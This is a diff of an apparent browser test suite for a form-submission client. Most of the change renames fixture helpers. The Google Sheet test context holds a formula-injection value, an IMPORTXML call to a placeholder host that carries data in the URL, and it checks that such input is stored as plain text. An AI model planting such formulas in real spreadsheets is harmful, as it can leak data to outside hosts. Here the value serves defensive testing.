@@ -68,7 +68,7 @@ describe('JSON with a key', () => {
       const { id } = await submit(fixture);
       expect(await waitForAttempt(fixture, id)).to.include({ state: 'retrying', reason: 'network' });
       expect(await fixture.posts()).to.deep.equal([]);
-      expect(await fixture.target.seen()).to.have.nested.property('[0].method', 'OPTIONS');
+      expect(await fixture.target.log()).to.have.nested.property('[0].method', 'OPTIONS');
     });
   }
 });
@@ -80,7 +80,7 @@ describe('a Slack webhook', () => {
     await (
       await submit(fixture)
     ).settled;
-    const [message] = await fixture.target.held();
+    const [message] = await fixture.target.stored();
     expect(message).to.match(/ &lt;!channel&gt; &amp; "more"$/);
   });
 });
@@ -90,14 +90,14 @@ describe('a form back end', () => {
     // Firefox repeats posts automatically, and sometimes hangs on one with files until the client gives it up.
     this.timeout(ATTEMPT_LIMIT_MS + 10_000);
     const fixture = await open('formBackEnd', (site) => formBackEnd(`${site}/f/feedback`));
-    await fixture.target.expect('fail', 'lose the reply');
+    await fixture.target.setFaults('fail', 'lose the reply');
     const files = [
       new File([new Uint8Array(100_000)], 'photo "1" 🧡.png', { type: 'image/png' }),
       new File(['a\r\nb'], 'log.txt', { type: 'text/plain' }),
     ];
     const { id, settled } = await submit(fixture, files);
     expect(await settled).to.include({ state: 'sent' });
-    const [submission] = (await fixture.target.held()) as { fields: object; files: object[] }[];
+    const [submission] = (await fixture.target.stored()) as { fields: object; files: object[] }[];
     expect(submission?.fields).to.deep.equal({ id, survey: 'checkout', why: fixture.mark });
     expect(submission?.files).to.deep.equal([
       { field: 'file', name: 'photo "1" 🧡.png', type: 'image/png', size: 100_000 },
@@ -126,7 +126,7 @@ describe('a Google sheet', () => {
     fixture.mark = `=IMPORTXML("https://a.example/${fixture.mark}")`;
     const { id, settled } = await submit(fixture);
     expect(await settled).to.include({ state: 'sent' });
-    const [row] = (await fixture.target.held()) as unknown[][];
+    const [row] = (await fixture.target.stored()) as unknown[][];
     expect(row?.[0]).to.equal(id);
     expect(row?.every((cell) => typeof cell === 'string')).to.equal(true);
   });
@@ -138,7 +138,7 @@ describe('a PostgREST table', () => {
     fixture.mark += '\0 \ud83e';
     const { id, settled } = await submit(fixture);
     expect(await settled).to.include({ state: 'sent' });
-    const rows = (await fixture.target.held()) as { id: string; record: string }[];
+    const rows = (await fixture.target.stored()) as { id: string; record: string }[];
     expect(JSON.parse(rows.find((row) => row.id === id)?.record ?? '')).to.have.nested.property(
       'answers[0].value',
       fixture.mark,
@@ -153,7 +153,7 @@ describe('a PostgREST table', () => {
 
   it('rejects copies permanently without the preference', async () => {
     const fixture = await open('postgrest', (site) => ({ ...postgrest(site), headers: {} }));
-    await fixture.target.expect('lose the reply');
+    await fixture.target.setFaults('lose the reply');
     await submit(fixture);
     await until(() => fixture.client.events.some((event) => 'reason' in event && event.reason === '409'));
     expect(await fixture.count()).to.equal(1);
